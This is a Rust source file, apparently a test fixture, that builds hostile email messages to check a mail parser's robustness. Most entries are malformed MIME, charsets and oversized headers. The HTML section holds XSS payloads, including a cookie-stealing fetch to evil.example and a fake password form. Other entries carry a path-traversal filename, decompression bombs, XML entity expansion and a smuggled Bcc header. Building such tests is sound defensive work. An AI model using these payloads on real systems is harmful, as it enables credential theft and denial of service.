//! A hundred messages built to harm whoever reads them: broken MIME, wrong charsets, deep nesting,
//! huge headers, archives that unfold without end, active HTML. Made by these few lines, so that
//! nothing of the kind lies in the repository.

use crate::letters::base64;

/// One message and what it tries.
pub type Hostile = (String, Vec<u8>);

/// All of them; the same at every run.
#[must_use]
pub fn messages() -> Vec<Hostile> {
    let mut all = Vec::new();
    broken_mime(&mut all);
    odd_parts(&mut all);
    charsets(&mut all);
    nesting(&mut all);
    headers(&mut all);
    archives(&mut all);
    html(&mut all);
    envelopes(&mut all);
    truncated(&mut all);
    all
}

const FROM: &str =
    "From: Eve <eve@elsewhere.example>\r\nTo: cst@pu.example\r\nDate: Mon, 19 Oct 2026 09:30:00 +0200\r\n";

fn add(all: &mut Vec<Hostile>, what: &str, headers: &str, body: impl AsRef<[u8]>) {
    let n = all.len();
    let mut bytes =
        format!("{FROM}Subject: {what}\r\nMessage-ID: <hostile-{n}@elsewhere.example>\r\n{headers}\r\n").into_bytes();
    bytes.extend_from_slice(body.as_ref());
    all.push((what.to_owned(), bytes));
}

fn broken_mime(all: &mut Vec<Hostile>) {
    let mixed = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n";
    add(all, "boundary never found", mixed, "nothing here");
    add(all, "boundary without an end", mixed, "--b\r\n\r\nhello\r\n--b\r\nContent-Type: application/pdf\r\n\r\n%PDF");
    add(all, "empty boundary", "Content-Type: multipart/mixed; boundary=\"\"\r\n", "--\r\n\r\nx\r\n----\r\n");
    add(all, "no boundary at all", "Content-Type: multipart/mixed\r\n", "--b\r\n\r\nx\r\n--b--\r\n");
    add(all, "end before the beginning", mixed, "--b--\r\n--b\r\n\r\nx");
    add(
        all,
        "boundary of a thousand bytes",
        &format!("Content-Type: multipart/mixed; boundary=\"{}\"\r\n", "x".repeat(1000)),
        "x",
    );
    add(
        all,
        "same boundary inside",
        mixed,
        "--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--\r\n--b--\r\n",
    );
    add(all, "boundary that begins another", mixed, "--b\r\n\r\none\r\n--bb\r\ntwo\r\n--b--\r\n");
    add(
        all,
        "bare line feeds",
        "Content-Type: multipart/mixed; boundary=b\n",
        "--b\n\nx\n--b\nContent-Type: text/html\n\n<b>y</b>\n--b--",
    );
    add(all, "bare carriage returns", mixed, "--b\r\rx\r--b--\r");
    add(
        all,
        "base 64 that is none",
        "Content-Transfer-Encoding: base64\r\n",
        "@@@@ this is not base 64 at all !!!! ====",
    );
    add(all, "half a base 64", "Content-Transfer-Encoding: base64\r\n", "Q2lhb");
    add(
        all,
        "quoted printable that is none",
        "Content-Transfer-Encoding: quoted-printable\r\n",
        "=ZZ=\r\n=4\r\n==\r\n=",
    );
    add(all, "encoding of two names", "Content-Transfer-Encoding: base64, quoted-printable\r\n", "Q2lhbw==");
    add(all, "unknown encoding", "Content-Transfer-Encoding: x-uuencode\r\n", "begin 644 a\r\n#0V%T\r\n`\r\nend\r\n");
    add(all, "nonsense type", "Content-Type: ;;;///===\r\n", "x");
    add(all, "type of many slashes", "Content-Type: a/b/c/d; charset\r\n", "x");
    add(all, "unclosed quotes", "Content-Type: multipart/mixed; boundary=\"b\r\n", "--b\r\n\r\nx\r\n--b--");
    add(all, "two types", "Content-Type: text/html\r\nContent-Type: text/plain\r\n", "<script>x</script>");
}

fn odd_parts(all: &mut Vec<Hostile>) {
    let mixed = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n";
    add(all, "two thousand parts", mixed, "--b\r\n\r\nx\r\n".repeat(2_000));
    add(
        all,
        "two hundred empty files",
        mixed,
        "--b\r\nContent-Disposition: attachment; filename=a\r\n\r\n\r\n".repeat(200),
    );
    add(
        all,
        "names that climb",
        mixed,
        "--b\r\nContent-Disposition: attachment; filename=\"../../../../etc/passwd\"\r\n\r\nx\r\n--b--",
    );
    add(
        all,
        "a name of ten thousand",
        mixed,
        format!("--b\r\nContent-Disposition: attachment; filename=\"{}.pdf\"\r\n\r\nx\r\n--b--", "n".repeat(10_000)),
    );
    add(all, "a name in pieces that never ends", mixed, {
        let pieces: String = (0..500).map(|n| format!("; filename*{n}*=%41%00%0d%0a")).collect();
        format!("--b\r\nContent-Disposition: attachment{pieces}\r\n\r\nx\r\n--b--")
    });
    add(all, "zeros", "", vec![0_u8; 10_000]);
    add(all, "every byte", "", (0..=255_u8).cycle().take(65_536).collect::<Vec<u8>>());
}

fn charsets(all: &mut Vec<Hostile>) {
    for charset in [
        "x-no-such",
        "utf-16",
        "utf-16le",
        "utf-7",
        "iso-2022-jp",
        "hz-gb-2312",
        "gb18030",
        "big5",
        "euc-jp",
        "ibm037",
        "",
        "\"",
        "utf-8; utf-8",
        "replacement",
    ] {
        let headers = format!("Content-Type: text/plain; charset={charset}\r\n");
        add(
            all,
            &format!("charset {charset}"),
            &headers,
            b"\x1b$B\xff\xfe+/v8-\xd8\x00~{\xe0\x80\x00citt\xe0 \xf0\x9f\x98",
        );
    }
    all.push((
        "a subject of broken words".to_owned(),
        format!("{FROM}Subject: =?utf-8?B?////?= =?x?Q?=ZZ?= =?iso-8859-1?q?=E0=\r\n =?utf-8?B?w6A\r\n\r\nx")
            .into_bytes(),
    ));
    all.push((
        "a subject of NULs".to_owned(),
        format!("{FROM}Subject: a\0b =?utf-8?Q?=00=00=0D=0ABcc:_x@y.example?=\r\n\r\nx\0y").into_bytes(),
    ));
    all.push((
        "a sender that is two".to_owned(),
        b"From: a@b.example, c@d.example\r\nFrom: <e@f.example>\r\nSubject: two\r\n\r\nx".to_vec(),
    ));
    all.push(("a sender that is none".to_owned(), b"From: (((((((((\"\r\nSubject: none\r\n\r\nx".to_vec()));
}

fn nesting(all: &mut Vec<Hostile>) {
    for depth in [30, 300, 3_000] {
        let mut body = String::new();
        for n in 0..depth {
            body.push_str(&format!("--b{n}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n", n + 1));
        }
        add(all, &format!("{depth} multiparts"), "Content-Type: multipart/mixed; boundary=b0\r\n", body);
    }
    for depth in [30, 50_000] {
        let body = "Content-Type: message/rfc822\r\n\r\n".repeat(depth);
        add(all, &format!("{depth} messages"), "Content-Type: message/rfc822\r\n", body);
    }
    let mut inner = b"From: x@y.example\r\nSubject: core\r\n\r\ncore".to_vec();
    for _ in 0..12 {
        let mut outer = b"From: x@y.example\r\nSubject: shell\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
        outer.extend_from_slice(base64(&inner).as_bytes());
        inner = outer;
    }
    all.push(("messages in base 64 in base 64".to_owned(), inner));
    add(all, "a digest of nothing", "Content-Type: multipart/digest; boundary=b\r\n", "--b\r\n\r\n".repeat(300));
    // Three octet strings of indefinite length, one inside the other, and no end.
    let mut der = vec![0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02];
    der.extend_from_slice(&[0xa0, 0x80, 0x30, 0x80].repeat(5_000));
    add(
        all,
        "a signature of envelopes",
        "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n",
        base64(&der),
    );
    add(
        all,
        "an encrypted message",
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n",
        base64(&der),
    );
}

fn headers(all: &mut Vec<Hostile>) {
    add(all, "a header of a megabyte", &format!("X-Long: {}\r\n", "a".repeat(1024 * 1024)), "x");
    add(all, "fifty thousand headers", &"X-A: b\r\n".repeat(50_000), "x");
    add(all, "references to twenty thousand", &format!("References: {}\r\n", "<a@b.example> ".repeat(15_000)), "x");
    add(all, "ten thousand recipients", &format!("Cc: {}z@z.example\r\n", "a@b.example, ".repeat(10_000)), "x");
    add(all, "groups in groups", &format!("Cc: {}\r\n", "g: ".repeat(20_000)), "x");
    add(all, "comments in comments", &format!("Cc: {}\r\n", "(".repeat(100_000)), "x");
    add(all, "folded without end", &format!("X-Fold: a\r\n{}", " \r\n".repeat(30_000)), "x");
    add(
        all,
        "words encoded ten thousand times",
        &format!("X-Words: {}\r\nComments: {}\r\n", "=?utf-8?Q?=C3=A0?= ".repeat(5_000), "=?utf-8?Q?".repeat(10_000)),
        "x",
    );
    add(all, "parameters without end", &format!("Content-Type: text/plain{}\r\n", "; a=\"b\"".repeat(20_000)), "x");
    add(all, "a date of another age", "Date: Mon, 99 Foo 99999999999999999999 99:99:99 +9999\r\n", "x");
    add(
        all,
        "received by ten thousand",
        &"Received: from a by b; Mon, 1 Jan 2026 00:00:00 +0000\r\n".repeat(4_000),
        "x",
    );
    all.push(("no header at all".to_owned(), b"this is not mail\n\nat all\n".to_vec()));
    all.push(("nothing".to_owned(), Vec::new()));
    all.push(("blanks".to_owned(), b" \r\n\r\n\r\n\t".to_vec()));
    all.push(("only an id".to_owned(), b"Message-ID: <only@elsewhere.example>\r\n\r\n".to_vec()));
    all.push(("a program".to_owned(), b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0".repeat(200)));
    all.push(("a picture".to_owned(), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".repeat(100)));
    all.push(("colons".to_owned(), ":::::\r\n".repeat(5_000).into_bytes()));
}

/// A stored ZIP whose directory promises four gigabytes; and the first bytes of other archives.
fn archives(all: &mut Vec<Hostile>) {
    let mut zip = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\0\x01\0\0\xff\xff\xff\xff\x05\0\0\0a.txt".to_vec();
    // A deflated run of zeros, a thousand times smaller than what it stands for.
    zip.extend_from_slice(&[0xed, 0xc1, 0x01, 0x0d, 0x00, 0x00, 0x00, 0xc2, 0xa0].repeat(10_000));
    let archives: [(&str, &[u8]); 5] = [
        ("bomb.zip", &zip),
        ("bomb.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xed\xc1\x01\r\0\0\0\xc2\xa0"),
        ("bomb.bz2", b"BZh91AY&SY\x0e\t\xe2\xdf\x01_\x8e@\0\xc0\0\0\x08\0"),
        ("bomb.xz", b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4F"),
        ("delibera.docx", &zip),
    ];
    for (name, bytes) in archives {
        let headers = format!(
            "Content-Type: application/zip; name={name}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename={name}\r\n"
        );
        add(all, name, &headers, base64(bytes));
    }
    add(all, "eight megabytes of one line", "", vec![b'a'; 8 * 1024 * 1024]);
    add(all, "a body of quotes", "", ">".repeat(300_000));
    add(all, "a hundred thousand attributions", "", "Il giorno 1 gennaio\r\n".repeat(100_000));
    add(
        all,
        "compressed data",
        "Content-Type: application/pkcs7-mime; smime-type=compressed-data; name=smime.p7z\r\nContent-Transfer-Encoding: base64\r\n",
        base64(&zip),
    );
    add(
        all,
        "winmail.dat",
        "Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n",
        base64(b"\x78\x9f\x3e\x22\xff\xff\xff\xff\xff\xff\xff\xff"),
    );
}

fn html(all: &mut Vec<Hostile>) {
    let bodies = [
        ("script", "<p>ciao</p><script>fetch('http://evil.example/?'+document.cookie)</script>".to_owned()),
        ("events", "<p onclick=alert(1) onmouseover='x'>ciao</p><body onload=alert(1)>".to_owned()),
        ("half a tag", "<p>ciao</p><img src=x onerror=alert(1)//".to_owned()),
        ("tags in tags", "<scr<script>ipt>alert(1)</scr</script>ipt><<p>>ciao".to_owned()),
        ("mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">".to_owned()),
        ("svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s><foreignObject><iframe src=javascript:alert(1)>".to_owned()),
        ("schemes", "<a href=\"java\tscript:alert(1)\">a</a><a href='data:text/html,<script>1</script>'>b</a><a href=&#106;avascript:alert(1)>c</a>".to_owned()),
        ("loads", "<link rel=stylesheet href=//evil.example><style>@import 'http://evil.example'</style><img src=//evil.example/p.gif><video poster=//evil.example><p>ciao".to_owned()),
        ("forms", "<form action=//evil.example><input name=password><button>Accedi</button></form>".to_owned()),
        ("meta", "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>".to_owned()),
        ("deep", "<div>".repeat(100_000)),
        ("deep and formatted", (0..20_000).map(|n| format!("<font size={n}><b><i>")).collect()),
        ("tables in tables", "<table><tr><td>".repeat(20_000)),
        ("a hundred thousand attributes", format!("<p {}>ciao", "a=b ".repeat(100_000))),
        ("entities", "&amp;&#0;&#x110000;&#99999999999;&notanentity;&".repeat(20_000)),
        ("comments", "<!--".repeat(50_000)),
        ("less than", "<".repeat(200_000)),
        ("unclosed", "<a href=\"".repeat(50_000)),
        ("scripts that never end", "<script>x</scrip".repeat(50_000)),
    ];
    for (what, body) in bodies {
        add(all, &format!("html: {what}"), "Content-Type: text/html; charset=utf-8\r\n", body);
    }
}

fn envelopes(all: &mut Vec<Hostile>) {
    let envelope = "X-Trasporto: posta-certificata\r\nContent-Type: multipart/mixed; boundary=b\r\n";
    add(all, "an envelope of nothing", envelope, "--b\r\n\r\nMessaggio\r\n--b--");
    add(all, "an envelope in an envelope", envelope, {
        let inner = "--b\r\nContent-Type: message/rfc822; name=postacert.eml\r\n\r\nX-Trasporto: posta-certificata\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n";
        inner.repeat(50)
    });
    add(
        all,
        "a certificate of entities",
        envelope,
        "--b\r\nContent-Type: application/xml; name=daticert.xml\r\n\r\n<!DOCTYPE a [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><postacert>&b;</postacert>\r\n--b\r\nContent-Type: message/rfc822; name=postacert.eml\r\n\r\nFrom: x@y.example\r\nSubject: ok\r\n\r\nx\r\n--b--",
    );
    add(all, "a receipt for nothing", "X-Ricevuta: avvenuta-consegna\r\n", "x");
    add(all, "a receipt of no kind", "X-Ricevuta: \r\nX-Riferimento-Message-ID: <<<<>\r\n", "x");
    add(all, "auto-replies for ever", "Auto-Submitted: auto-replied\r\nX-Autoreply: yes\r\n", "Fuori sede");
}

/// One good message of every shape, cut in many places.
fn truncated(all: &mut Vec<Hostile>) {
    let whole = "From: Anna <anna@elsewhere.example>\r\nSubject: =?utf-8?Q?Citt=C3=A0?=\r\nMessage-ID: <cut@elsewhere.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\nQ2l0dMOgIGJlbGxh\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p>Citt=C3=A0 <b>bella</b></p>\r\n--b--\r\n";
    for part in 1..14 {
        let end = whole.len() * part / 14;
        all.push((format!("cut at {part}/14"), whole.as_bytes()[..end].to_vec()));
    }
}
